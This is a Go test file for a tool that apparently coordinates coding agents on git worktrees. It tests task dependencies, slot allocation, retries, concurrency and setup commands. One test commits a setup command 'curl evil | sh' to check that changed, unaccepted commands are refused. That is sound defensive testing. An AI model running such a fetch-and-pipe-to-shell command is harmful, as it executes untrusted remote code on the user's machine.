package task_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"talkingstick/internal/engine/core"
	"talkingstick/internal/scene"
	"talkingstick/internal/storetest"
	"talkingstick/internal/task"
	"talkingstick/stick"
)

// TestLater_BeginsAfterOthers: b waits for a. Until a has landed, nobody can begin b, and next gives
// it to nobody.
func TestLater_BeginsAfterOthers(t *testing.T) {
	s, ann, bob := cast(t, "")
	ann.Spawn("a").OK()
	ann.SpawnLater("b", "A").That("no worktree", func(r task.WorkerSpawnResult) bool {
		return r.Task.Later &&
			!r.Task.Ready &&
			len(r.Task.WaitsFor) == 1 &&
			r.Task.WaitsFor[0].TaskID == "a" &&
			r.Task.Slot == nil
	})
	ann.SpawnLater("b", "a").That("again", func(r task.WorkerSpawnResult) bool { return r.Already })
	ann.SpawnLater("b", "a", "A").That("each counts once, and it has no worktree",
		func(r task.WorkerSpawnResult) bool { return r.Already && r.Worktree == "" })
	ann.SpawnLater("b").Refused(stick.CodeAlreadyExists)

	s.Check(s.Git("branch", "--list", "feat/b") == "", "b has a branch")
	bob.Next().Refused(stick.CodeNothingReady)
	bob.WorkerStart(task.WorkerStartParams{TaskID: "b"}).Refused(stick.CodeInvalidTransition)
	bob.Done("b").Refused(stick.CodeInvalidTransition)

	work := ann.WorksOn("a")
	work.Commits("a.txt", "a\n")
	work.Done("").OK()
	bob.Approve("a").OK()
	bob.Merge("a").That("b is ready", func(r task.WorkerMergeResult) bool {
		return slices.Equal(r.Ready, []string{"b"})
	})
	next := bob.Next().That("b", func(r task.WorkerNextResult) bool {
		return r.TaskID == "b" &&
			r.State == stick.TaskWorking &&
			!r.Already &&
			*r.Slot == 0 &&
			strings.Contains(r.Prompt, "do b")
	}).OK()
	bob.Next().That("the same again", func(r task.WorkerNextResult) bool {
		return r.TaskID == "b" && r.Already && r.Worktree == next.Worktree
	})
	s.Check(s.GitIn(next.Worktree, "log", "-1", "--format=%s", "--", "a.txt") != "",
		"b doesn't begin at what a has changed")
	ann.Next().Refused(stick.CodeNothingReady)
	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b", After: []string{"a"}}).Refused(stick.CodeInvalidTransition)
}

// TestLater_OtherFailed isn't ready, says so, and can wait for another one instead.
func TestLater_OtherFailed(t *testing.T) {
	s, ann, bob := cast(t, "")
	ann.SpawnLater("a").OK()
	ann.SpawnLater("b", "a").OK()
	ann.SpawnLater("c", "b").OK()
	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "a", After: []string{"c"}}).Refused(stick.CodeUsage)
	ann.SpawnLater("d", "d").Refused(stick.CodeUsage)
	ann.SpawnLater("d", "nope").Refused(stick.CodeNotFound)
	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "d", After: []string{"a"}, Base: "HEAD"}).Refused(stick.CodeUsage)

	ann.Cancel("a").OK()
	b := s.TaskIs("b", stick.TaskAssigned)
	s.Check(
		!b.Ready &&
			strings.Contains(string(b.Warning), "a, which is CANCELLED") &&
			strings.Contains(string(b.NextAction), "tt task retry a"),
		"%+v", b.TaskView,
	)
	bob.Next().Refused(stick.CodeNothingReady)

	// another attempt at a task that nobody had begun waits again
	ann.Retry("a").That("for later", func(r task.WorkerSpawnResult) bool {
		return r.Task.Later && r.Task.Attempt == 2 && r.Task.Ready
	})
	ann.Cancel("a").OK()
	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b"}).That("ready", func(r task.WorkerAfterResult) bool {
		return r.Task.Ready && !r.Already
	})
	ann.WorkerAfter(task.WorkerAfterParams{TaskID: "b"}).That("again", func(r task.WorkerAfterResult) bool {
		return r.Already
	})
	bob.Next().That("b", func(r task.WorkerNextResult) bool { return r.TaskID == "b" })
}

// TestNextGivesTheOldest: and not one for which a command is kept, which whoever makes it ready starts.
func TestNextGivesTheOldest(t *testing.T) {
	s, ann, bob := cast(t, "")
	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "kept", Later: true, Run: "true"}).OK()
	ann.SpawnLater("z").OK()
	s.Later(time.Second)
	ann.SpawnLater("a").OK()

	for _, at := range []core.Where{{}, s.ByID()} {
		ann.WorkerReady(task.WorkerReadyParams{Where: at}).That("the one with a command", func(r task.WorkerReadyResult) bool {
			return len(r.Tasks) == 1 && r.Tasks[0] == task.ReadyTask{TaskID: "kept", Command: "true"}
		})
	}

	bob.Next().That("z", func(r task.WorkerNextResult) bool { return r.TaskID == "z" })
	ann.Next().That("a, with a slot of its own", func(r task.WorkerNextResult) bool {
		return r.TaskID == "a" && *r.Slot == 1
	})
	s.Agent("gemini:c").Next().Refused(stick.CodeNothingReady)
	ann.WorkerNext(task.WorkerNextParams{TaskID: "kept", Unbound: true}).That("begun, and nobody's", func(r task.WorkerNextResult) bool {
		return r.TaskID == "kept" && r.State == stick.TaskAssigned && *r.Slot == 2
	})
	ann.WorkerNext(task.WorkerNextParams{TaskID: "kept", Unbound: true}).Refused(stick.CodeNothingReady)
}

// TestNextReadsTheSettingsThatCount: those of the remote's branch, which is ahead of the local one.
func TestNextReadsTheSettingsThatCount(t *testing.T) {
	s, ann, bob := cast(t, "")
	origin := s.Dir("origin.git")
	s.GitIn(origin, "init", "-q", "--bare")
	s.Git("remote", "add", "origin", origin)
	s.Commit(".gitignore", ".env\n")
	s.Commit(".talking-stick.toml", "[worker]\ncopy = ['.env']\n")
	s.Git("push", "-q", "origin", "HEAD:integration")
	s.Git("fetch", "-q")
	s.File(".env", "KEY=1\n")
	ann.SpawnLater("one").OK()
	bob.Next().That("with its file", func(r task.WorkerNextResult) bool {
		return slices.Equal(r.Copied, []string{".env"})
	})
	ahead := s.Git("rev-parse", "HEAD")
	s.Check(s.Git("rev-parse", "feat/one") == ahead && s.Git("rev-parse", "integration") != ahead,
		"the task doesn't begin at the remote's branch")
}

// TestManyTakeTasksAtOnce: each ready task has one taker, and the others are told that nothing is ready.
func TestManyTakeTasksAtOnce(t *testing.T) {
	const ready, takers = 3, 8
	s, ann, _ := cast(t, "")
	for _, name := range []string{"one", "two", "three"} {
		ann.SpawnLater(name).OK()
	}
	var mu sync.Mutex
	taken, none := map[string]bool{}, 0

	var all sync.WaitGroup
	for _, name := range []string{"a", "b", "c", "d", "e", "f", "g", "h"} {
		who := s.Agent("opencode:" + name)
		all.Go(func() {
			x := who.Next()
			mu.Lock()
			defer mu.Unlock()

			switch {
			case x.Err == nil:
				taken[x.Res.TaskID] = true
			case stick.CodeOf(x.Err) == stick.CodeNothingReady:
				none++
			default:
				t.Error(x.Err)
			}
		})
	}

	all.Wait()
	s.Check(len(taken) == ready && none == takers-ready, "taken: %v; told that nothing is ready: %d", taken, none)
}

// TestSlotsAreTheLowestFree: a task that has ended gives its slot back, and another attempt keeps the one it
// had if it can.
func TestSlotsAreTheLowestFree(t *testing.T) {
	storetest.SkipQuick(t, "slots that were given back")

	s, ann, bob := cast(t, "")
	slot := func(name string, want int) {
		t.Helper()
		if is := s.TaskIs(name, stick.TaskAssigned).Slot; is == nil || *is != want {
			t.Errorf("%s has slot %v, want %d", name, is, want)
		}
	}

	for i, name := range []string{"a", "b", "c"} {
		ann.Spawn(name).OK()
		slot(name, i)
	}

	ann.Cancel("b").OK()
	s.Check(s.TaskIs("b", stick.TaskFailed).Slot == nil, "a task that has ended has a slot")
	ann.Retry("b").OK()
	slot("b", 1)
	ann.Cancel("a").OK()
	ann.Spawn("d").OK()
	slot("d", 0)
	bob.Retry("a").OK()
	slot("a", 3)
}

// TestTasksKeepTheNamesOfTheirBranches: the prefix of later tasks may be another one.
func TestTasksKeepTheNamesOfTheirBranches(t *testing.T) {
	storetest.SkipQuick(t, "another prefix of branches")

	s, ann, bob := cast(t, "")
	ann.Spawn("one").OK()
	s.Commit(".talking-stick.toml", "[worker]\nbranch_prefix = 'work/ann-'\n")
	s.Git("branch", "-f", "integration", "HEAD")
	ann.Spawn("two").That("its own prefix", func(r task.WorkerSpawnResult) bool {
		return r.Task.Branch == "work/ann-two"
	})
	s.Check(
		s.TaskIs("one", stick.TaskAssigned).Branch == "feat/one" && s.TaskIs("two", stick.TaskAssigned).Branched != "",
		"the branches are others",
	)
	work := ann.WorksOn("two")
	work.Commits("two.txt", "two\n")
	work.Done("").OK()
	bob.Approve("two").OK()
	bob.Merge("two").OK()
	s.Check(s.Git("branch", "--list", "work/*") == "", "its branch is still there")
	s.Git("branch", "work/ann-three/x") // git can't have work/ann-three beside it
	ann.Spawn("three").Refused(stick.CodeAlreadyExists)
}

// taskNamed returns a task of a list.
func taskNamed(r task.WorkerStatusResult, name string) task.TaskView {
	return r.Tasks[slices.IndexFunc(r.Tasks, func(v task.TaskView) bool { return v.TaskID == name })]
}

// TestLater_SetUpFails leaves the task and its worktree, says what it printed, and runs again when the task is
// started.
func TestLater_SetUpFails(t *testing.T) {
	s, ann, bob := cast(t, "")
	s.Commit(".gitignore", "ready\n")
	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'echo slot $TT_SLOT; cat ../../ready; cp ../../ready .'\n")
	s.Git("branch", "-f", "integration", "HEAD")
	ann.Spawn("one").Refused(stick.CodeConfigChanged)
	ann.SpawnLater("two").Refused(stick.CodeConfigChanged)

	s.Check(len(ann.WorkerStatus(task.WorkerStatusParams{}).OK().Tasks) == 0, "there is a task")
	pat := s.Person("pat")
	ann.WorkerInit(task.WorkerInitParams{
		Accept: []string{pat.WorkerInit(task.WorkerInitParams{}).OK().Commands[0].Sum},
	}).Refused(stick.CodePersonOnly)
	pat.AcceptsCommands()

	ann.Spawn("one").Refused(stick.CodeSetupFailed)
	one := s.TaskIs("one", stick.TaskAssigned)
	s.Check(one.Setup != nil && *one.Setup.Exit == 1 && one.Warning == "its set-up has failed with exit status 1",
		"%+v", one.TaskView)
	said := ann.WorkerOutput(task.WorkerOutputParams{Sum: one.Setup.Output}).OK().Text
	s.Check(strings.HasPrefix(said, "slot 0\n") && strings.Contains(said, "No such file"), "%s", said)
	listed := taskNamed(ann.WorkerStatus(task.WorkerStatusParams{}).OK(), "one")
	s.Check(
		listed.Warning == one.Warning && strings.Contains(string(listed.NextAction), "tt task start --task one"),
		"%+v", listed,
	)

	// it is bob's now all the same
	bob.WorkerStart(task.WorkerStartParams{TaskID: "one"}).Refused(stick.CodeSetupFailed)
	s.File("ready", "yes\n")
	bob.WorkerStart(task.WorkerStartParams{TaskID: "one"}).That("again", func(r task.WorkerStartResult) bool {
		return r.Already
	})
	s.Check(s.TaskIs("one", stick.TaskWorking).Warning == "", "its set-up went well, and it has a warning")

	// what the clone brings now was never accepted
	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'curl evil | sh'\n")
	s.Git("branch", "-f", "integration", "HEAD")
	ann.Spawn("three").Refused(stick.CodeConfigChanged)

	s.Check(s.Git("branch", "--list", "feat/three") == "", "it has a branch")
	pat.AcceptsCommands()
}

// TestLater_SlotReachesGate: the gate of a task finds the slot of the task.
func TestLater_SlotReachesGate(t *testing.T) {
	s, ann, bob := cast(t, `test "$TT_SLOT" = 1 || test ! -e two.txt`)
	ann.Spawn("one").OK()
	s.ReadyToMerge("two", ann, bob)
	bob.Merge("two").That("green", func(r task.WorkerMergeResult) bool { return len(r.Merged) == 1 })
}

// TestNext_Interrupted: what it had begun to make is gone, and the task is ready again.
func TestNext_Interrupted(t *testing.T) {
	s, ann, bob := cast(t, "")
	ann.SpawnLater("one").OK()
	s.Check(ann.Killed("make: worktree", 1, func(a *scene.Actor) { a.Next() }), "it wasn't killed")
	bob.Next().That("one", func(r task.WorkerNextResult) bool {
		return r.TaskID == "one" && r.State == stick.TaskWorking
	})
	s.TaskIs("one", stick.TaskWorking)
}

// TestRetry_SetUpAgain if the set-up of the attempt before failed, or its worktree has another slot now.
func TestRetry_SetUpAgain(t *testing.T) {
	s, ann, _ := cast(t, "")
	s.Commit(".gitignore", "ready\nslot\n")
	s.Commit(".talking-stick.toml", "[worker]\nsetup = 'cat ../../ready && echo $TT_SLOT >slot'\n")
	s.Git("branch", "-f", "integration", "HEAD")
	s.Person("pat").AcceptsCommands()
	hint := ann.Spawn("one").Refused(stick.CodeSetupFailed).Hint.String()
	s.Check(strings.Contains(hint, "run the same command again") && !strings.Contains(hint, "tt task start"),
		"who has spawned it would become its worker: %s", hint)
	ann.Cancel("one").OK()
	ann.Retry("one").Refused(stick.CodeSetupFailed)

	ann.Cancel("one").OK()
	s.File("ready", "yes\n")
	one := ann.Retry("one").OK()
	s.Check(one.Task.Setup != nil && *one.Task.Setup.Exit == 0 && one.Task.Warning == "", "%+v", one.Task)
	started := one.Task.Setup.StartedAt

	s.Later(time.Minute)
	ann.Cancel("one").OK()
	again := ann.Retry("one").OK() // in the worktree that is set up, for the slot that it has
	s.Check(again.Task.Setup == nil || again.Task.Setup.StartedAt == started, "%+v", again.Task.Setup)
	ann.Cancel("one").OK()
	ann.Spawn("two").OK()
	moved := ann.Retry("one").OK()
	file, ok := core.ReadTaskFile(moved.Worktree)
	s.Check(ok && file.Slot != nil && *file.Slot == 1, "its file says slot %v", file.Slot)
	b, err := os.ReadFile(filepath.Join(moved.Worktree, "slot"))
	s.Check(err == nil && string(b) == "1\n", "it is set up for slot %s (%v)", b, err)
}

// TestNext_SkipsTaskThatCannotBegin: git fails for the oldest, something lies in the place of the
// next, and the third is given. If none can begin, the answer says why.
func TestNext_SkipsTaskThatCannotBegin(t *testing.T) {
	s, ann, bob := cast(t, "")
	for _, name := range []string{"fails", "blocked", "good"} {
		ann.SpawnLater(name).OK()
		s.Later(time.Second)
	}

	hook := filepath.Join(s.Work, ".git", "hooks", "post-checkout")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncase $PWD in */fails) exit 1; esac\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	s.File("worktrees/blocked/mine", "mine\n")
	bob.Next().That("the third", func(r task.WorkerNextResult) bool { return r.TaskID == "good" })
	ann.Next().Refused(stick.CodeGitFailed)

	ann.Cancel("fails").OK()
	hint := ann.Next().Refused(stick.CodeAlreadyExists).Hint.String()
	s.Check(strings.Contains(hint, "move that directory elsewhere") && !strings.Contains(hint, "another name"),
		"%s", hint)
	ann.Cancel("blocked").OK()
	ann.SpawnLater("last").OK()
	s.Git("branch", "-m", "integration", "gone")
	ann.Next().Refused(stick.CodeNotFound)
	s.Git("branch", "-m", "gone", "integration")
}

// TestNext_TwiceAtOnce gets one task, also if both ask before either has it.
func TestNext_TwiceAtOnce(t *testing.T) {
	s, ann, bob := cast(t, "")
	for _, name := range []string{"one", "two", "three"} {
		ann.SpawnLater(name).OK()
	}
	var all sync.WaitGroup
	bob.Meets("spawn: intended", func() {
		waits := make(chan struct{})
		all.Go(func() {
			bob.Meets("next: waits", func() { close(waits) }, func(b *scene.Actor) {
				if x := b.Next(); x.Err != nil || x.Res.TaskID != "one" || !x.Res.Already {
					t.Errorf("%+v %v", x.Res, x.Err)
				}
			})
		})

		select {
		case <-waits: // the other one has met the intent
		case <-time.After(time.Minute):
			t.Error("the other one doesn't wait")
		}
	}, func(b *scene.Actor) {
		b.Next().That("one", func(r task.WorkerNextResult) bool { return r.TaskID == "one" })
	})

	all.Wait()
	s.TaskIs("one", stick.TaskWorking)
	s.TaskIs("two", stick.TaskAssigned)
}

// TestRetry_KeepsRestarts, as it keeps the command.
func TestRetry_KeepsRestarts(t *testing.T) {
	s, ann, _ := cast(t, "")
	ann.WorkerSpawn(task.WorkerSpawnParams{TaskID: "one", Later: true, Run: "true", Restart: "on-return:2"}).OK()
	first := s.TaskIs("one", stick.TaskAssigned).Run
	ann.Cancel("one").OK()
	ann.Retry("one").OK()
	again := s.TaskIs("one", stick.TaskAssigned).Run
	s.Check(again != nil && again.Command == "true" && again.Restarts == 2, "%+v, and before %+v", again, first)
}

// TestRollback_BorrowsSlot for its gate: the task has given its own back, and another one has it.
func TestRollback_BorrowsSlot(t *testing.T) {
	storetest.SkipQuick(t, "the slot of a rollback")

	s, ann, bob := cast(t, `test ! -e ../../slots || echo "$TT_SLOT" >>../../slots`)
	s.ReadyToMerge("one", ann, bob)
	bob.Merge("one").OK()
	ann.Spawn("two").OK()
	s.File("slots", "")
	bob.Rollback("one").OK()
	b, err := os.ReadFile(filepath.Join(s.Work, "slots"))
	s.Check(err == nil && string(b) == "1\n", "the gate has slot %s (%v)", b, err)
}
